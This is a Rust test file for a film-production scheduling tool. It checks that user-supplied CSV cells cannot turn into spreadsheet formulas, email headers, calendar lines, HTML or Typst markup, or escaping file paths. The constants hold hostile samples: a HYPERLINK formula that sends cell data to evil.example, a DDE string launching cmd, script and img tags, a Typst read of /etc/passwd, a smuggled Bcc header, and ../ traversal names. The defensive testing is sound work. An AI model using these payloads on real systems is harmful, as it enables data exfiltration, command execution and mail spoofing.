//! What came in as text goes out as text: no cell can become a formula in a workbook or a CSV, a header or markup in
//! a mail, a line of its own in an invitation, or markup on a page.
#![cfg(feature = "pdf")]

mod common;
#[path = "common/typeset.rs"]
mod typeset;

use callboard::check::finding::Report;
use callboard::check::forecast::Forecast;
use callboard::ingest::{Locale, assemble, read, reader};
use callboard::render::catalog;
use callboard::render::job::Body;
use callboard::render::view::View;
use callboard::settings;
use common::{callboard, files, stderr};
use mailparse::ParsedMail;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";
const COMMAND: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MARKUP: &str = "<script>alert(1)</script><img src=http://evil.example/x>";
const TYPST: &str = "#panic(\"x\") *b* $x^2$ #read(\"/etc/passwd\") <z> @ref [y] \\u{41} `raw` // c";
const HEADER: &str = "Ada\nBcc: thief@evil.example\r\nX-Evil: yes";

/// Every table that people's words reach, as quoted CSV.
fn inbox() -> Vec<(&'static str, String)> {
    let table = |rows: &[&[&str]]| {
        let mut out = csv::Writer::from_writer(Vec::new());
        rows.iter().for_each(|row| out.write_record(*row).unwrap());
        String::from_utf8(out.into_inner().unwrap()).unwrap()
    };
    vec![
        (
            "crew.csv",
            table(&[
                &["Name", "Position", "Department", "Email", "Phone", "Agreement", "Rate", "Per"],
                &[HEADER, FORMULA, "Camera", "ada@example.com", COMMAND, "IATSE", "50", "hour"],
                &["Bo Reyes", TYPST, "Grip", "bo@example.com", "+1 213 555 0101", "IATSE", "50", "hour"],
                &[MARKUP, "Gaffer", TYPST, "cy@example.com", "-2+3", "IATSE", "50", "hour"],
            ]),
        ),
        (
            "cast.csv",
            table(&[
                &["No.", "Character", "Name", "Agreement", "Rate", "Per", "Email", "Agent"],
                &["1", TYPST, "Dee Ito", "SAG-AFTRA", "1246", "day", "dee@example.com", MARKUP],
                &["2", FORMULA, "Eli Park", "SAG-AFTRA", "1246", "day", "eli@example.com", HEADER],
            ]),
        ),
        (
            "schedule.csv",
            table(&[
                &["Date", "Day", "Crew Call", "Shooting Call", "Est. Wrap", "Location", "Notes"],
                &["2026-10-29", "1", "7:00A", "8:00A", "7:00P", "Pier 9", FORMULA],
                &["2026-10-30", "2", "7:00A", "8:00A", "7:00P", "Pier 9", TYPST],
                &["2026-10-31", "3", "7:00A", "8:00A", "7:00P", "Pier 9", HEADER],
            ]),
        ),
        (
            "locations.csv",
            table(&[
                &["Location", "Address", "Basecamp", "Nearest Hospital", "Contact"],
                &["Pier 9", FORMULA, TYPST, MARKUP, HEADER],
            ]),
        ),
        (
            "scenes.csv",
            table(&[
                &["Scene", "Date", "I/E", "Set", "D/N", "Pages", "Cast", "Synopsis", "Props"],
                &["1", "2026-10-30", "INT", TYPST, "DAY", "1 2/8", "1, 2", MARKUP, FORMULA],
                &["2", "2026-10-31", "EXT", FORMULA, "NIGHT", "2/8", "1", TYPST, HEADER],
            ]),
        ),
        (
            "calls.csv",
            table(&[
                &["Date", "Name", "Report", "On Set", "Location", "Remarks"],
                &["2026-10-31", "Dee Ito", "6:00A", "7:00A", "Pier 9", FORMULA],
                &["2026-10-31", "Eli Park", "6:30A", "7:30A", "Pier 9", TYPST],
            ]),
        ),
        (
            "hours.csv",
            table(&[
                &["Date", "Name", "Call", "Wrap", "Meal 1 Start", "Meal 1 End", "Notes"],
                &["2026-10-29", "Bo Reyes", "7:00A", "10:00P", "2:00P", "2:30P", FORMULA],
                &["2026-10-29", MARKUP, "7:00A", "7:00P", "1:00P", "1:30P", TYPST],
                &["2026-10-29", FORMULA, "soon", "7:00P", "1:00P", "1:30P", HEADER],
            ]),
        ),
        (
            "notes.csv",
            table(&[
                &["Date", "Note", "Department"],
                &["2026-10-31", TYPST, ""],
                &["2026-10-31", MARKUP, "Camera"],
            ]),
        ),
        (
            "expenses.csv",
            table(&[
                &["Date", "Account", "Vendor", "Description", "Amount", "Method", "Receipt"],
                &["2026-10-29", "3300", FORMULA, COMMAND, "41.20", "petty cash", "R-1"],
                &["2026-10-29", "3300", MARKUP, TYPST, "12.00", "petty cash", HEADER],
            ]),
        ),
        ("budget.csv", table(&[&["Account", "Description", "Budget"], &["3300", FORMULA, "1000"]])),
        (
            "clearances.csv",
            table(&[
                &["Item", "Kind", "Status", "Rights Holder", "Scene"],
                &[FORMULA, "music", "pending", TYPST, "1"],
            ]),
        ),
        (
            "meetings.csv",
            table(&[
                &["Date", "Time", "What", "Who", "Place", "Notes"],
                &["2026-11-02", "9:00A", HEADER, "all", FORMULA, MARKUP],
            ]),
        ),
        (
            "unknown.csv",
            table(&[&["Name", FORMULA, "Position", "Department"], &["Gil Ode", COMMAND, "Grip", "Grip"]]),
        ),
    ]
}

fn production() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("show");
    fs::create_dir_all(folder.join("inbox")).unwrap();
    let title = toml::Value::String(format!("{FORMULA} {MARKUP}"));
    let text = format!(
        "[production]\ntitle = {title}\ncountry = \"US\"\nregion = \"CA\"\ntime_zone = \"America/Los_Angeles\"\n"
    );
    fs::write(folder.join("callboard.toml"), text).unwrap();
    for (name, text) in inbox() {
        fs::write(folder.join("inbox").join(name), text).unwrap();
    }
    (dir, folder)
}

#[test]
fn no_cell_becomes_a_formula_a_header_or_markup() {
    let (_dir, folder) = production();
    let output = callboard(&["build", folder.to_str().unwrap(), "--today", "2026-10-30", "--personal"]);
    assert_ne!(output.status.code(), Some(2), "{}", stderr(&output));
    let out = folder.join("out");
    let made = files(&out);
    let mut seen = [0_usize; 3];
    for name in &made {
        let bytes = fs::read(out.join(name)).unwrap();
        match name.rsplit('.').next() {
            Some("xlsx") => workbook(name, &bytes),
            Some("csv") => text_table(name, &bytes),
            Some("eml") => mail(name, &bytes),
            _ => continue,
        }
        seen[["xlsx", "csv", "eml"].iter().position(|end| name.ends_with(end)).unwrap()] += 1;
    }
    assert!(seen[0] > 3 && seen[1] > 0 && seen[2] > 2, "{seen:?} of {made:#?}");
    // Nothing outside out/, whatever a name says.
    let mut beside = files(&folder);
    beside.retain(|name| {
        !name.starts_with("out/") && !name.starts_with("inbox/") && !name.starts_with(".callboard/")
    });
    assert_eq!(beside, ["callboard.toml"]);
}

/// Formulas are our own sums; links lead to our own inputs.
fn workbook(name: &str, bytes: &[u8]) {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    for place in 0..archive.len() {
        let mut entry = archive.by_index(place).unwrap();
        let part = entry.name().unwrap().into_owned();
        let mut text = String::new();
        if !(part.ends_with(".xml") || part.ends_with(".rels")) || entry.read_to_string(&mut text).is_err() {
            continue;
        }
        for formula in text.split("<f>").skip(1).map(|rest| rest.split("</f>").next().unwrap()) {
            assert!(
                !formula.contains("HYPERLINK") && !formula.contains("cmd") && !formula.contains("evil"),
                "{name} {part}: {formula}"
            );
        }
        if part.ends_with(".rels") {
            assert!(!text.contains("evil.example"), "{name} {part}: {text}");
        }
        // What stands in a workbook's own markup is escaped.
        assert!(!text.contains("<script>"), "{name} {part}");
    }
}

fn text_table(name: &str, bytes: &[u8]) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    for record in reader.records() {
        for field in &record.unwrap() {
            let begins = field.trim_start().starts_with(['=', '+', '-', '@']);
            assert!(!begins || field.parse::<f64>().is_ok(), "{name}: {field}");
        }
    }
}

fn mail(name: &str, bytes: &[u8]) {
    let mail = mailparse::parse_mail(bytes).unwrap();
    let headers: Vec<String> = mail.headers.iter().map(|header| header.get_key().to_lowercase()).collect();
    for wanted in ["from", "to", "subject", "date", "message-id"] {
        assert_eq!(headers.iter().filter(|key| *key == wanted).count(), 1, "{name}: {headers:?}");
    }
    for wrong in ["bcc", "cc", "x-evil"] {
        assert!(!headers.iter().any(|key| key == wrong), "{name}: {headers:?}");
    }
    parts(name, &mail);
}

fn parts(name: &str, mail: &ParsedMail) {
    for part in &mail.subparts {
        parts(name, part);
    }
    let kind = mail.ctype.mimetype.as_str();
    if kind == "text/html" {
        let body = mail.get_body().unwrap();
        assert!(!body.contains("<script") && !body.contains("<img"), "{name}: {body}");
    }
    if matches!(kind, "text/calendar" | "application/ics") {
        let body = mail.get_body().unwrap();
        let unfolded = body.replace("\r\n ", "").replace("\n ", "");
        for line in unfolded.lines() {
            assert!(!line.starts_with("Bcc") && !line.starts_with("X-Evil"), "{name}: {unfolded}");
        }
        assert_eq!(
            unfolded.lines().filter(|line| line.starts_with("ATTENDEE")).count(),
            1,
            "{name}: {unfolded}"
        );
    }
}

/// Words are values to the typesetter, never source: they stand on the page as they were written.
#[test]
fn words_that_look_like_markup_are_printed_as_they_are() {
    let files: Vec<_> = inbox()
        .into_iter()
        .map(|(name, text)| {
            let book = reader::in_process(text.as_bytes(), name).unwrap();
            read::tables(name, "", &book, &Locale::of("US", "USD"))
        })
        .collect();
    let text = "[production]\ntitle = \"Harmless\"\ncountry = \"US\"\nregion = \"CA\"\ntime_zone = \"America/Los_Angeles\"\n";
    let (settings, _) = settings::load(text, "callboard.toml");
    let today = "2026-10-30".parse().unwrap();
    let (production, _) = assemble::production(&files, &settings, today);
    let (report, forecast) = (Report::default(), Forecast::default());
    let view = View {
        production: &production,
        report: &report,
        forecast: &forecast,
        files: &files,
        settings: &settings,
        words: callboard::render::words::of_production(&production.facts),
        today,
        way_home: "..",
    };
    let jobs: Vec<_> = catalog::sheets(&view, true).into_iter().chain(catalog::documents(&view)).collect();
    let mut set = 0;
    let mut whole = String::new();
    for job in &jobs {
        let Body::Pdf { .. } = &job.body else { continue };
        whole.push_str(&typeset::printed(&typeset::lay_out(job)));
        set += 1;
    }
    assert!(set > 5, "{set}");
    let printed: String = whole.chars().filter(|c| !c.is_whitespace()).collect();
    for words in [
        "#panic(\"x\")*b*$x^2$#read(\"/etc/passwd\")",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example",
    ] {
        let straight = printed.replace(['“', '”'], "\"").replace('\u{200b}', "");
        assert!(straight.contains(words), "“{words}” is not on any page");
    }
}

#[test]
fn a_path_in_a_name_leads_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("show");
    fs::create_dir_all(folder.join("inbox")).unwrap();
    let schedule = "Date,Day,Unit,Crew Call\n2026-10-30,1,../../../evil,7:00A\n2026-10-31,2,C:\\evil,7:00A\n";
    fs::write(folder.join("inbox/schedule.csv"), schedule).unwrap();
    let crew = "Name,Position,Department,Email\n../../evil,Grip,../..,a@example.com\n";
    fs::write(folder.join("inbox/crew.csv"), crew).unwrap();
    let output = callboard(&["build", folder.to_str().unwrap(), "--today", "2026-10-30", "--personal"]);
    assert_ne!(output.status.code(), Some(2), "{}", stderr(&output));
    let above: Vec<String> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(above, ["show"]);
    let made = files(Path::new(&folder.join("out")));
    assert!(made.iter().any(|name| name.starts_with("call-sheets/")), "{made:?}");
    assert!(made.iter().all(|name| !name.contains("..")), "{made:?}");
}
